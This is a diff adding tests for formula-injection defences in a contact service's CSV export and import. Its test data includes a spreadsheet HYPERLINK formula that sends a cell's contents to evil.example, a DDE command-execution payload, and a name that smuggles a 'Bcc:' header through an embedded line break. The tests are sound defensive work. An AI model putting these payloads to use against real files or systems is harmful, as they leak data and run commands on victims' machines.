@@ -151,3 +151,58 @@ async def test_cli_import_then_purge(fresh_database_url: str, tmp_path: Path) ->
         runner.invoke, contacts, ["purge", "--inactive-months", "24", "--yes"], env=env
     )
     assert "0 contacts erased" in again.output
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B2,"Open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+async def test_export_cells_a_spreadsheet_would_run_as_formulas_read_back_as_text(
+    client: httpx.AsyncClient, staff: StaffFactory, conn: asyncpg.Connection
+) -> None:
+    editor = await staff("editor")
+    body = {"email": "eve@x.example", "consent_text_version": "v1", "name": FORMULAS[0]}
+    assert (await client.post("/api/v1/subscriptions/", json=body)).status_code == 202
+    # Older rows, or cells the API lets through as multi-line text, hold the rest.
+    await conn.execute(
+        "UPDATE contacts SET notes = $1, tags = $2 WHERE email = 'eve@x.example'",
+        FORMULAS[-1],
+        FORMULAS[1:-1],
+    )
+    exported = await client.get(CONTACTS + "/export", params={"format": "csv"}, headers=editor)
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
+    [eve] = rows
+    assert eve["name"] == "'" + FORMULAS[0]
+    assert eve["notes"] == "'" + FORMULAS[-1]
+    assert eve["tags"] == "'" + "|".join(FORMULAS[1:-1])
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in eve.values())
+
+
+async def test_export_reimports_formula_like_values_as_they_were_typed(
+    client: httpx.AsyncClient, staff: StaffFactory
+) -> None:
+    editor = await staff("editor")
+    text = "name;email;phone;notes\r\n-Anna-;anna@x.example;+358 40 222;=not a formula\r\n"
+    await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)
+    exported = await client.get(CONTACTS + "/export", params={"format": "csv"}, headers=editor)
+    assert "'-Anna-" in exported.content.decode("utf-8-sig")
+    again = await client.post(
+        CONTACTS + "/import?dry_run=true",
+        files={"file": ("e.csv", exported.content, "text/csv")},
+        headers=editor,
+    )
+    assert (again.json()["created"], again.json()["rejected"]) == (0, [])
+    anna = (await client.get(CONTACTS + "/", params={"q": "anna"}, headers=editor)).json()
+    assert (anna["items"][0]["name"], anna["items"][0]["phones"]) == ("-Anna-", ["+358 40 222"])
+
+
+async def test_import_refuses_a_name_spread_over_two_lines(
+    client: httpx.AsyncClient, staff: StaffFactory
+) -> None:
+    editor = await staff("editor")
+    text = 'name;email\r\n"Eve\r\nBcc: x@y.example";eve@x.example\r\nAda;ada@x.example\r\n'
+    report = (await client.post(CONTACTS + "/import", files=_upload(text), headers=editor)).json()
+    assert report["created"] == 1
+    [problem] = report["rejected"]
+    assert problem["reasons"] == ["name must be one line of text, without line breaks or "
+                                  "control characters"]  # fmt: skip
